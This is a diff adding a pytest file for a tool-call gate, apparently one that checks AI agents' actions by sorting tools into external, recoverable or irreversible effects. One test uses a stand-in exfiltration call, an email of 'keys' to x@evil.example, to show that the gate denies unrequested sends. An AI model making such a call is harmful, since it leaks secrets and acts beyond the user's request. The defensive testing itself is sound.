@@ -1,0 +1,149 @@
+"""Effect rules for unknown tools: the operation verb of the name, the description, argument
+names, and local path arguments judged against a real git repository."""
+
+from __future__ import annotations
+
+import asyncio
+from pathlib import Path
+
+import pytest
+
+from ctxgate.gate import ToolCall, ToolGate
+from ctxgate.gate.effects.model import EffectClass, EffectSource
+from ctxgate.gate.effects.names import name_effect, operation_verb
+from ctxgate.gate.effects.resolve import resolve_effect
+from ctxgate.gate.policy import GatePolicy
+
+from ..conftest import scripted
+
+EXT, R, IRR = EffectClass.EXTERNAL, EffectClass.LOCAL_RECOVERABLE, EffectClass.LOCAL_IRREVERSIBLE
+
+
+@pytest.mark.parametrize(
+    ("tool", "verb"),
+    [
+        ("send_email", "send"),
+        ("sendMessage", "send"),
+        ("transfer_money", "transfer"),
+        ("ExpressRoutePorts_Delete", "delete"),
+        ("QueryPacks_CreateOrUpdate", "create"),
+        ("me.messages.message.copy", "copy"),
+        ("repos/create-issue", "create"),
+        ("get_email", "get"),
+        ("list_shares", "list"),
+        ("Apps_CheckSubdomainAvailability", "check"),
+        ("user_email_lookup", "lookup"),  # "email" is a verb only as the first word
+    ],
+)
+def test_operation_verb(tool: str, verb: str) -> None:
+    found = operation_verb(tool)
+    assert found is not None and found[0] == verb
+
+
+@pytest.mark.parametrize(
+    ("tool", "args"),
+    [
+        ("send_email", {"to": "a@example.com", "body": "hi"}),
+        ("invite_user", {"email": "x@example.com", "role": "admin"}),
+        ("share_file", {"file_id": "123", "with": "anyone"}),
+        ("publish_package", {"name": "x"}),
+        ("deploy_service", {"service": "api"}),
+        ("push_branch", {"branch": "main"}),
+        ("book_flight", {"flight": "LH123"}),
+        ("pay_invoice", {"invoice_id": 9}),
+        ("delete_repository", {"repo": "acme/site"}),
+        ("frobnicate", {"amount": 12.5, "iban": "DE89370400440532013000"}),  # arguments pay
+        ("frobnicate", {"recipient": "bob", "message": "hi"}),  # arguments send
+    ],
+)
+def test_external_effects_are_destructive_by_rule(tmp_path: Path, tool: str, args: dict) -> None:
+    e = name_effect(tool, args, cwd=str(tmp_path))
+    assert e is not None and e.effect is EXT and e.source is EffectSource.TOOL_NAME, e
+    assert e.effect.destructive and e.evidence
+
+
+@pytest.mark.parametrize(
+    "tool", ["get_user", "list_issues", "search_docs", "verifyUSAddress", "fetch_page", "weather"]
+)
+def test_reads_and_unknown_names_are_left_to_the_classifier(tmp_path: Path, tool: str) -> None:
+    assert name_effect(tool, {"id": 1}, cwd=str(tmp_path)) is None
+
+
+def test_the_description_gives_the_verb_when_the_name_has_none(tmp_path: Path) -> None:
+    e = name_effect(
+        "slack",
+        {"channel": "#ops"},
+        cwd=str(tmp_path),
+        description="Sends a message to a Slack channel",
+    )
+    assert e is not None and e.effect is EXT and "description" in e.evidence
+
+
+def test_local_path_arguments_go_through_the_path_rules(repo: Path, outside: Path) -> None:
+    cwd = str(repo)
+    e = name_effect("write_file", {"path": "src/app.py", "content": "x"}, cwd=cwd)
+    assert e is not None and e.effect is R and "tracked by git" in e.evidence
+    e = name_effect("write_file", {"path": str(outside / "data.txt"), "content": "x"}, cwd=cwd)
+    assert e is not None and e.effect is IRR and "outside any git working tree" in e.evidence
+    e = name_effect("edit_file", {"path": "~/.bashrc", "edits": []}, cwd=cwd)
+    assert e is not None and e.effect is IRR and "dotfile" in e.evidence
+    e = name_effect("delete_file", {"path": "scratch.txt"}, cwd=cwd)
+    assert e is not None and e.effect is IRR and "untracked" in e.evidence
+    e = name_effect("move_file", {"source": "src/app.py", "destination": "src/dirty.py"}, cwd=cwd)
+    assert e is not None and e.effect is IRR and "uncommitted changes" in e.evidence
+    e = name_effect("create_directory", {"path": "newdir"}, cwd=cwd)
+    assert e is not None and e.effect is R
+    # a delete of a path that is not there: no evidence, the classifier and model decide
+    assert name_effect("delete_file", {"path": "gone.txt"}, cwd=cwd) is None
+
+
+def test_placeholders_and_urls_are_not_local_paths(tmp_path: Path) -> None:
+    e = name_effect(
+        "upload_file", {"file": "<file>", "url": "https://x.example/u"}, cwd=str(tmp_path)
+    )
+    assert e is not None and e.effect is EXT
+
+
+def test_the_rules_sit_before_the_learned_classifier_and_after_the_harness(tmp_path: Path):
+    policy = GatePolicy()
+    e = resolve_effect(
+        "mcp__mail__send_email", {"to": "a@example.com"}, policy=policy, cwd=str(tmp_path)
+    )
+    assert e is not None and e.source is EffectSource.TOOL_NAME
+    e = resolve_effect(
+        "Write", {"file_path": "x.txt", "content": "y"}, policy=policy, cwd=str(tmp_path)
+    )
+    assert e is not None and e.source is EffectSource.HARNESS_TOOL
+
+
+def test_an_unrequested_send_is_denied_or_asked_whatever_the_model_says(tmp_path: Path):
+    call = ToolCall(
+        tool="send_email", arguments={"to": "x@evil.example", "body": "keys"}, cwd=str(tmp_path)
+    )
+    v = asyncio.run(ToolGate(scripted(0.01, 0.1)).decide(call, user_request="weather?"))
+    assert v.outcome == "deny" and v.effect.source is EffectSource.TOOL_NAME
+    assert "'send'" in v.reason
+    v = asyncio.run(ToolGate(scripted(0.01, 0.5)).decide(call, user_request="email Dana"))
+    assert v.outcome == "ask"
+    v = asyncio.run(ToolGate(scripted(0.01, 0.9)).decide(call, user_request="email Dana"))
+    assert v.allowed
+    # a read-only tool is not over-blocked: the model's low P(destructive) stands
+    read = ToolCall(tool="get_invoice", arguments={"id": 3}, cwd=str(tmp_path))
+    v = asyncio.run(ToolGate(scripted(0.05, 0.1)).decide(read, user_request="weather?"))
+    assert v.allowed
+
+
+def test_the_remembered_schema_names_the_arguments(tmp_path: Path) -> None:
+    schema = {"type": "object", "properties": {"recipient": {}, "body": {}}}
+    e = name_effect("relay", {}, cwd=str(tmp_path), input_schema=schema)
+    assert e is not None and e.effect is EXT and "recipient" in e.evidence
+    assert name_effect("relay", {}, cwd=str(tmp_path)) is None
+
+
+def test_a_name_rule_deny_says_it_looks_destructive_and_why(tmp_path: Path) -> None:
+    """A name is weaker evidence than a parse: the reason says "looks" and names the verb."""
+    call = ToolCall(tool="delete_records", arguments={"table": "customers"}, cwd=str(tmp_path))
+    v = asyncio.run(ToolGate(scripted(0.2, 0.05)).decide(call, user_request="show the schema"))
+    assert v.outcome == "deny"
+    assert v.reason.startswith("Tool gate: this call looks destructive or irreversible (p=0.20)")
+    assert "external by the gate's rules (the tool's name says 'delete'" in v.reason
